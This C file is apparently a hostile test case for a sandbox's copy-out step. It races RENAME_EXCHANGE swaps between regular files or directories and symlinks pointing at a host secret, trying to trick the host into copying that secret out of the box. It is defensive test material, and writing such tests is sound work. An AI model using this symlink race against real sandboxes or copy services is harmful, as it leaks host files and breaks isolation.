/* Race the host's copy-out: a background process swaps /box/out between a regular file and a
 * symlink to a host secret (argv[1]), and /box/d between a real directory and a symlink to the
 * secret's directory (argv[2]), with atomic RENAME_EXCHANGE, as fast as it can, until the box
 * dies. Whatever state the host finds, it must copy the box's own data or refuse: never the
 * secret. */
#include "hostile.h"
#include <fcntl.h>
#include <linux/fs.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/syscall.h>

static void put(const char *path, const char *data) {
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    ssize_t rc = write(fd, data, strlen(data));
    (void)rc;
    close(fd);
}

int main(int argc, char **argv) {
    const char *secret = argv[1], *secret_dir = argv[2];
    char name[256];
    snprintf(name, sizeof name, "%s", strrchr(secret, '/') + 1);
    put("/box/out", "box data\n");
    if (symlink(secret, "/box/out_link") < 0) return 2;
    mkdir("/box/d", 0755);
    char inner[300];
    snprintf(inner, sizeof inner, "/box/d/%s", name);
    put(inner, "box data\n");
    if (symlink(secret_dir, "/box/d_link") < 0) return 2;
    if (fork() == 0) {
        for (;;) {
            syscall(SYS_renameat2, AT_FDCWD, "/box/out", AT_FDCWD, "/box/out_link",
                    RENAME_EXCHANGE);
            syscall(SYS_renameat2, AT_FDCWD, "/box/d", AT_FDCWD, "/box/d_link",
                    RENAME_EXCHANGE);
        }
    }
    usleep(20 * 1000 + (getpid() % 7) * 1000);
    say("racing");
    return 0;
}
